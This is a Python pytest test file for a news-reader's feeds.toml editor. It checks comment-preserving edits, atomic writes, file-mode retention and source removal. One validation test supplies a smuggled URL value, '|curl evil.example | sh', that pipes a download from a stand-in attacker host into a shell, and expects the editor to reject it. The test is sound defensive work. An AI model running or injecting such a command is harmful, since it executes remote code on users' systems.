"""Editing feeds.toml: edits keep the user's comments and layout, validate first, write atomically."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from uninews_tui.config import load_config
from uninews_tui.config_edit import SourceNotFound, add_to_config, editable_config_path, remove_source
from uninews_tui.config_tables import host_slug, slugify, source_extra_keys, unique_id
from uninews_tui.errors import ConfigError

REPO = Path(__file__).resolve().parents[1]
DEFAULT = (REPO / "feeds.toml").read_text(encoding="utf-8")
NEW_SOURCE = {"id": "lake-news", "institution": "lake", "kind": "feed", "url": "https://news.lake.example.edu/rss",
              "title": 'Lake "College" news \\ daily'}


def test_add_appends_and_keeps_every_line(tmp_path: Path) -> None:
    target = tmp_path / "feeds.toml"
    target.write_text(DEFAULT, encoding="utf-8")
    config = add_to_config(target, institutions={"lake": {"name": "Lake College", "timezone": "Europe/Oslo"}},
                           sources=[NEW_SOURCE])
    text = target.read_text(encoding="utf-8")
    assert text.startswith(DEFAULT) and text.count("\n[institutions.lake]\n") == 1
    source = config.source("lake-news")
    assert source is not None and source.title == 'Lake "College" news \\ daily'
    assert config.institutions["lake"].timezone == "Europe/Oslo"
    assert load_config(target) == config
    assert [p.name for p in tmp_path.iterdir()] == ["feeds.toml"]  # no temporary file left behind


def test_missing_file_is_created_from_the_default(tmp_path: Path) -> None:
    target = tmp_path / "new" / "dir" / "feeds.toml"
    add_to_config(target, institutions={"lake": {"name": "Lake College"}}, sources=[NEW_SOURCE])
    assert target.read_text(encoding="utf-8").startswith(DEFAULT)
    assert len(load_config(target).sources) == len(load_config(REPO / "feeds.toml").sources) + 1


def test_invalid_result_writes_nothing(tmp_path: Path) -> None:
    target = tmp_path / "feeds.toml"
    target.write_text(DEFAULT, encoding="utf-8")
    bad = {**NEW_SOURCE, "institution": "nowhere"}
    with pytest.raises(ConfigError, match="unknown institution"):
        add_to_config(target, sources=[bad])
    with pytest.raises(ConfigError, match="not allowed"):
        add_to_config(target, institutions={"lake": {"name": "Lake"}},
                      sources=[{**NEW_SOURCE, "url": "|curl evil.example | sh"}])
    assert target.read_text(encoding="utf-8") == DEFAULT


def test_file_mode_is_kept(tmp_path: Path) -> None:
    target = tmp_path / "feeds.toml"
    target.write_text(DEFAULT, encoding="utf-8")
    os.chmod(target, 0o600)
    add_to_config(target, institutions={"lake": {"name": "Lake"}}, sources=[NEW_SOURCE])
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_inline_array_layout_falls_back_to_tomlkit(tmp_path: Path) -> None:
    target = tmp_path / "feeds.toml"
    target.write_text('# inline style\ninstitutions = { lake = { name = "Lake" } }\n'
                      'sources = [{ id = "a", institution = "lake", kind = "feed", '
                      'url = "https://a.example/rss" }]\n',
                      encoding="utf-8")
    config = add_to_config(target, sources=[{**NEW_SOURCE, "id": "b"}])
    assert [s.id for s in config.sources] == ["a", "b"]
    assert target.read_text(encoding="utf-8").startswith("# inline style\n")


def _lines_without(text: str, start: str, end: str) -> list[str]:
    lines = text.splitlines()
    first = lines.index(start)
    last = lines.index(end, first)
    return lines[:first] + lines[last + 1:]


@pytest.mark.parametrize("source_id", ["pku-news", "mit-research", "utokyo-press", "polyu-media-releases"])
def test_remove_cuts_only_that_block(tmp_path: Path, source_id: str) -> None:
    target = tmp_path / "feeds.toml"
    target.write_text(DEFAULT, encoding="utf-8")
    config = remove_source(target, source_id)
    assert config.source(source_id) is None
    assert len(config.sources) == len(load_config(REPO / "feeds.toml").sources) - 1
    after = target.read_text(encoding="utf-8").splitlines()
    assert f'id = "{source_id}"' not in after
    kept = [line for line in DEFAULT.splitlines() if line.startswith("# ====")]
    assert [line for line in after if line.startswith("# ====")] == kept  # section comments stay
    assert sum(1 for line in after if line.startswith("#")) >= sum(
        1 for line in DEFAULT.splitlines() if line.startswith("#")) - 4


def test_remove_keeps_comments_around(tmp_path: Path) -> None:
    target = tmp_path / "feeds.toml"
    target.write_text('# top\n[institutions.lake]\nname = "Lake"\n\n'
                      '[[sources]]\nid = "a"\ninstitution = "lake"\n'
                      'kind = "feed"\nurl = "https://a.example/rss"  # the first\n\n'
                      '# about b\n[[sources]]\nid = "b"\n'
                      'institution = "lake"\nkind = "feed"\nurl = "https://b.example/rss"\n',
                      encoding="utf-8")
    remove_source(target, "a")
    assert target.read_text(encoding="utf-8") == (
        '# top\n[institutions.lake]\nname = "Lake"\n\n# about b\n[[sources]]\nid = "b"\n'
        'institution = "lake"\nkind = "feed"\nurl = "https://b.example/rss"\n')


def test_remove_unknown_source(tmp_path: Path) -> None:
    target = tmp_path / "feeds.toml"
    with pytest.raises(SourceNotFound, match='did you mean "pku-news"'):
        remove_source(target, "pku-new")
    assert not target.exists()


def test_editable_path_follows_config_option_and_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("UNINEWS_CONFIG", str(tmp_path / "env.toml"))
    assert editable_config_path(tmp_path / "opt.toml") == tmp_path / "opt.toml"
    assert editable_config_path() == tmp_path / "env.toml"
    monkeypatch.delenv("UNINEWS_CONFIG")
    assert editable_config_path().name == "feeds.toml"


def test_ids_and_slugs() -> None:
    assert slugify("Université Paris-Saclay") == "universite-paris-saclay"
    assert slugify("北京大学") == ""
    assert unique_id("news", {"news", "news-2"}) == "news-3" and unique_id("", set()) == "feed"
    hosts = ("https://news.mit.edu/rss", "https://www.cam.ac.uk/x", "http://127.0.0.1:9/", "http://localhost/")
    assert [host_slug(u) for u in hosts] == ["mit", "cam", "", ""]


def test_extra_keys_leave_defaults_out() -> None:
    config = load_config(REPO / "feeds.toml")
    keys = source_extra_keys(config.source("oxford-news"))  # type: ignore[arg-type]
    assert keys["list"]["item"] and "meta_fallback" not in keys.get("detail", {})
    assert "id" not in keys and "url" not in keys
